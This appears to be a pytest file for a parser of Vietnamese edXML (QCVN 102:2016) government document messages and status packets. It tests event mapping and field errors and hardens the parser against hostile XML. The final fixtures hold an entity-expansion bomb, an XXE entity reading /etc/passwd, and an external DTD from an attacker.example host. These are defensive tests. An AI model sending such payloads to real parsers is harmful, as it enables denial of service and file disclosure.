"""edXML (QCVN 102:2016): samples written from the standard's message header and status packet
as the document exchange systems write them (the `edXML:` prefix on the QCVN namespace, a
SOAP-wrapped status packet, Vietnamese names), and the hardened parser against XML bombs."""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest

from ingestors.body import BodyError, TooManyRecords
from ingestors.formats import edxml
from ingestors.formats.base import MapContext, Mapped
from ingestors.pipeline import judge, read_body

RECEIVED = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)
SENDER = "000.00.00.H42"  # UBND tỉnh Hà Tĩnh
RECEIVER = "000.00.12.H42"  # Sở Xây dựng
DOCUMENT = "000.00.00.H42,2026/11/20,1234/UBND-XD"


def ctx(agency: str | None = None) -> MapContext:
    return MapContext(source="documents", received_at=RECEIVED, agency=agency)


# A provincial committee's official letter to its construction department, as sent.
EDXML_MESSAGE = """<?xml version="1.0" encoding="UTF-8"?>
<edXML:edXML xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">
  <edXML:edXMLEnvelope>
    <edXML:edXMLHeader>
      <edXML:MessageHeader>
        <edXML:From>
          <edXML:OrganId>000.00.00.H42</edXML:OrganId>
          <edXML:OrganizationInCharge>Ủy ban nhân dân tỉnh Hà Tĩnh</edXML:OrganizationInCharge>
          <edXML:OrganName>UBND tỉnh Hà Tĩnh</edXML:OrganName>
          <edXML:OrganAdd>Số 1 Nguyễn Chí Thanh, phường Thành Sen, Hà Tĩnh</edXML:OrganAdd>
          <edXML:Email>ubnd@hatinh.gov.vn</edXML:Email>
          <edXML:Telephone>02393855555</edXML:Telephone>
        </edXML:From>
        <edXML:To>
          <edXML:OrganId>000.00.12.H42</edXML:OrganId>
          <edXML:OrganName>Sở Xây dựng tỉnh Hà Tĩnh</edXML:OrganName>
        </edXML:To>
        <edXML:Code>
          <edXML:CodeNumber>1234</edXML:CodeNumber>
          <edXML:CodeNotation>UBND-XD</edXML:CodeNotation>
        </edXML:Code>
        <edXML:PromulgationInfo>
          <edXML:Place>Hà Tĩnh</edXML:Place>
          <edXML:PromulgationDate>2026-11-20</edXML:PromulgationDate>
        </edXML:PromulgationInfo>
        <edXML:DocumentType>
          <edXML:Type>1</edXML:Type>
          <edXML:TypeName>Công văn</edXML:TypeName>
        </edXML:DocumentType>
        <edXML:Subject>V/v kiểm tra công tác cấp giấy phép xây dựng năm 2026</edXML:Subject>
        <edXML:SignerInfo>
          <edXML:Competence>TM. Ủy ban nhân dân</edXML:Competence>
          <edXML:Position>Phó Chủ tịch</edXML:Position>
          <edXML:FullName>Nguyễn Hồng Lĩnh</edXML:FullName>
        </edXML:SignerInfo>
        <edXML:DueDate>2026-11-30</edXML:DueDate>
        <edXML:ToPlaces>
          <edXML:Place>Sở Xây dựng</edXML:Place>
        </edXML:ToPlaces>
        <edXML:OtherInfo>
          <edXML:Priority>0</edXML:Priority>
          <edXML:PageAmount>2</edXML:PageAmount>
        </edXML:OtherInfo>
        <edXML:SteeringType>0</edXML:SteeringType>
        <edXML:DocumentId>000.00.00.H42,2026/11/20,1234/UBND-XD</edXML:DocumentId>
      </edXML:MessageHeader>
      <edXML:TraceHeaderList>
        <edXML:TraceHeader>
          <edXML:OrganId>000.00.00.H42</edXML:OrganId>
          <edXML:Timestamp>2026-11-20T15:42:10+07:00</edXML:Timestamp>
        </edXML:TraceHeader>
        <edXML:Bussiness>
          <edXML:BussinessDocType>0</edXML:BussinessDocType>
        </edXML:Bussiness>
      </edXML:TraceHeaderList>
      <Signature xmlns="http://www.w3.org/2000/09/xmldsig#">
        <SignedInfo><SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/></SignedInfo>
        <SignatureValue>bW9jay1zaWduYXR1cmU=</SignatureValue>
      </Signature>
    </edXML:edXMLHeader>
    <edXML:edXMLBody>
      <edXML:edXMLManifest>
        <edXML:Reference>
          <edXML:ContentId>cid:7a1c</edXML:ContentId>
          <edXML:ContentType>application/pdf</edXML:ContentType>
          <edXML:AttachmentName>1234-UBND-XD.signed.pdf</edXML:AttachmentName>
        </edXML:Reference>
      </edXML:edXMLManifest>
    </edXML:edXMLBody>
  </edXML:edXMLEnvelope>
</edXML:edXML>
"""


def status_packet(code: str, timestamp: str = "22/11/2026 08:05:30") -> str:
    """The department's status packet about the letter (SOAP-wrapped, as one system sends)."""
    return f"""<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/">
<SOAP-ENV:Header>
<edXML:Status xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">
  <edXML:ResponseFor>
    <edXML:OrganId>000.00.00.H42</edXML:OrganId>
    <edXML:Code>1234/UBND-XD</edXML:Code>
    <edXML:PromulgationDate>20/11/2026</edXML:PromulgationDate>
    <edXML:DocumentId>000.00.00.H42,2026/11/20,1234/UBND-XD</edXML:DocumentId>
  </edXML:ResponseFor>
  <edXML:From>
    <edXML:OrganId>000.00.12.H42</edXML:OrganId>
    <edXML:OrganName>Sở Xây dựng tỉnh Hà Tĩnh</edXML:OrganName>
    <edXML:OrganizationInCharge />
  </edXML:From>
  <edXML:StatusCode>{code}</edXML:StatusCode>
  <edXML:Description>Văn thư - Văn phòng Sở: đã tiếp nhận văn bản</edXML:Description>
  <edXML:Timestamp>{timestamp}</edXML:Timestamp>
  <edXML:StaffInfo>
    <edXML:Department>Văn phòng Sở</edXML:Department>
    <edXML:Staff>Nguyễn Thị Ngọc Trâm</edXML:Staff>
  </edXML:StaffInfo>
</edXML:Status>
</SOAP-ENV:Header>
<SOAP-ENV:Body />
</SOAP-ENV:Envelope>"""


EDXML_STATUS = status_packet("03", "2026-11-22T08:05:30+07:00")


def _one(body: str, agency: str | None = None) -> Mapped:
    [record] = edxml.parse(body.encode(), 10)
    assert record.error is None
    return edxml.map_record(record.value, ctx(agency))


def test_a_message_header_becomes_issued_and_sent_at_the_sender() -> None:
    mapped = _one(EDXML_MESSAGE)
    assert not mapped.errors and not mapped.warnings
    issued, sent = mapped.events
    assert (issued["type"], issued["occurred_at"]) == ("issued", "2026-11-20T00:00:00+07:00")
    assert (sent["type"], sent["occurred_at"]) == ("sent", "2026-11-20T15:42:10+07:00")
    assert sent["agency"] == SENDER
    assert sent["payload"] == {
        "document_id": DOCUMENT,
        "electronic": True,
        "signed": True,  # the header carries an XML signature
        "sender_agency": SENDER,
        "receiver_agency": RECEIVER,
        "document_type": "Công văn",
        "due_at": "2026-11-30T23:59:59+07:00",
        "direction": "outgoing",
    }
    assert sent["event_id"].startswith("edxml-") and sent["event_id"] != issued["event_id"]


def test_the_same_header_posted_by_the_receiver_is_a_receipt_there() -> None:
    mapped = _one(EDXML_MESSAGE, agency=RECEIVER)
    [received] = mapped.events
    assert (received["type"], received["agency"]) == ("received", RECEIVER)
    assert received["payload"]["direction"] == "incoming"
    assert received["occurred_at"] == "2026-11-20T15:42:10+07:00"  # the only trace there is


def test_without_a_document_id_it_is_made_from_the_sender_date_and_code() -> None:
    body = EDXML_MESSAGE.replace(
        "<edXML:DocumentId>000.00.00.H42,2026/11/20,1234/UBND-XD</edXML:DocumentId>", ""
    )
    assert _one(body).events[0]["payload"]["document_id"] == DOCUMENT
    status = status_packet("03").replace(
        "<edXML:DocumentId>000.00.00.H42,2026/11/20,1234/UBND-XD</edXML:DocumentId>", ""
    )
    assert _one(status).events[0]["payload"]["document_id"] == DOCUMENT


def test_a_status_packet_is_an_event_at_the_agency_reporting() -> None:
    mapped = _one(EDXML_STATUS)
    [event] = mapped.events
    assert (event["type"], event["agency"]) == ("received", RECEIVER)
    assert event["occurred_at"] == "2026-11-22T08:05:30+07:00"
    assert event["payload"] == {
        "document_id": DOCUMENT,
        "direction": "incoming",
        "electronic": True,
        "receiver_agency": RECEIVER,
        "sender_agency": SENDER,
    }


@pytest.mark.parametrize(
    ("code", "kind"),
    [("01", None), ("02", "refused"), ("03", "received"), ("04", "assigned"),
     ("05", "processed"), ("06", "done"), ("13", None), ("15", "returned"), ("16", None),
     ("3", "received")],
)  # fmt: skip
def test_the_status_code_table(code: str, kind: str | None) -> None:
    mapped = _one(status_packet(code))
    assert not mapped.errors
    if kind is None:
        assert mapped.events == [] and mapped.skipped
    else:
        assert [e["type"] for e in mapped.events] == [kind]


def test_a_date_without_a_zone_is_vietnam_time_with_a_warning() -> None:
    mapped = _one(status_packet("04", "22/11/2026 08:05:30"))
    assert mapped.events[0]["occurred_at"] == "2026-11-22T08:05:30+07:00"
    assert [str(w) for w in mapped.warnings] == [
        "Status.Timestamp: has no time zone; taken as Asia/Ho_Chi_Minh (UTC+07:00)"
    ]


def test_unknown_status_codes_are_errors_naming_the_allowed_ones() -> None:
    [error] = _one(status_packet("07")).errors
    assert str(error).startswith(
        "Status.StatusCode: unknown code '07'; allowed: 01 (arrived, awaiting receipt"
    )
    assert "16 (recall refused" in str(error)


@pytest.mark.parametrize(
    ("old", "new", "error"),
    [
        ("2026-11-22T08:05:30+07:00", "hôm qua", "Status.Timestamp: 'hôm qua' is not a date"),
        ("2026-11-22T08:05:30+07:00", "", "Status.Timestamp: required"),
        ("<edXML:OrganId>000.00.12.H42</edXML:OrganId>", "", "Status.From.OrganId: required"),
        ("000.00.00.H42,2026/11/20,1234/UBND-XD", "văn bản 1234", "Status.ResponseFor.DocumentId"),
    ],
)
def test_bad_status_fields_are_named(old: str, new: str, error: str) -> None:
    errors = [str(e) for e in _one(EDXML_STATUS.replace(old, new)).errors]
    assert any(e.startswith(error) for e in errors), errors


def test_a_revocation_header_is_followed_by_the_status_packets() -> None:
    body = EDXML_MESSAGE.replace("<edXML:BussinessDocType>0<", "<edXML:BussinessDocType>1<")
    mapped = _one(body)
    assert mapped.events == [] and mapped.skipped == "revoke"


def test_an_agency_code_of_the_wrong_shape_is_refused_by_name() -> None:
    body = EDXML_STATUS.replace(
        "<edXML:OrganId>000.00.12.H42</edXML:OrganId>", "<edXML:OrganId>SXD-HT</edXML:OrganId>"
    )
    [record] = edxml.parse(body.encode(), 10)
    verdict = judge("documents", [record], ctx(), edxml.FORMAT)
    [error, *_] = verdict.results[0]["errors"]
    assert error.startswith("Status.From.OrganId: String should match pattern")


def test_several_packets_in_one_body_are_several_records() -> None:
    one = status_packet("04", "2026-11-22T09:00:00+07:00")
    two = status_packet("06", "2026-11-23T16:00:00+07:00")
    inner = [s[s.index("<edXML:Status") : s.index("</edXML:Status>") + 15] for s in (one, two)]
    body = f"<Statuses>{''.join(inner)}</Statuses>".encode()
    records = edxml.parse(body, 10)
    assert len(records) == 2 and records[1].raw is not None and b"StatusCode" in records[1].raw
    verdict = judge("documents", records, ctx(), edxml.FORMAT)
    assert [e.type for e in verdict.events] == ["assigned", "done"]
    with pytest.raises(TooManyRecords):
        edxml.parse(body, 1)


def test_xml_that_is_not_edxml_is_a_record_error() -> None:
    [record] = edxml.parse(b"<note><to>Tove</to></note>", 10)
    assert record.error is not None and "holds no edXML MessageHeader or Status" in record.error


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<edXML:Status xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">
<edXML:StatusCode>&lol9;</edXML:StatusCode></edXML:Status>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Status><StatusCode>&xxe;</StatusCode></Status>"""
EXTERNAL_DTD = b'<!DOCTYPE Status SYSTEM "http://attacker.example/evil.dtd"><Status/>'


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (BILLION_LAUGHS, "XML with a document type declaration (<!DOCTYPE lolz>) is refused"),
        (EXTERNAL_ENTITY, "XML with a document type declaration (<!DOCTYPE s>) is refused"),
        (EXTERNAL_DTD, "XML with a document type declaration (<!DOCTYPE Status>) is refused"),
        (b"<Status><StatusCode>&xxe;</StatusCode></Status>", "body is not well-formed XML"),
        (b"<Status><StatusCode>03</Status>", "body is not well-formed XML (mismatched tag"),
        (b"<a>" * 100 + b"</a>" * 100, "XML is nested more than 64 elements deep"),
        (b"<a>" + b"<b/>" * 200_001 + b"</a>", "XML has more than 200000 elements"),
        (b"  \n", "body is empty"),
        (b"<a/>\xff\xfe", "body is not well-formed XML"),
    ],
)
def test_hostile_or_broken_xml_gets_a_precise_error_fast(body: bytes, message: str) -> None:
    started = time.monotonic()
    with pytest.raises(BodyError) as caught:
        edxml.parse(body, 10)
    assert str(caught.value).startswith(message), str(caught.value)
    # A DTD is refused where it starts, before anything is expanded; the rest within bounds.
    assert time.monotonic() - started < (1 if b"DOCTYPE" in body else 5)


def test_a_deep_but_legal_nesting_and_a_bom_are_fine() -> None:
    body = b"\xef\xbb\xbf" + EDXML_STATUS.encode()
    [record] = edxml.parse(body, 10)
    assert record.value["Status"]["StatusCode"] == "03"
    assert edxml.sniff(b"<?xml") and not edxml.sniff(b'{"a": 1}')


def test_recognised_without_format_by_its_framing() -> None:

    parsed = read_body("documents", EDXML_MESSAGE.encode(), None, 10)
    assert parsed.format is edxml.FORMAT and parsed.detected
    verdict = judge("documents", parsed.records, ctx(), parsed.format, detected=parsed.detected)
    assert (verdict.format, verdict.status, len(verdict.events)) == ("edxml", 200, 2)
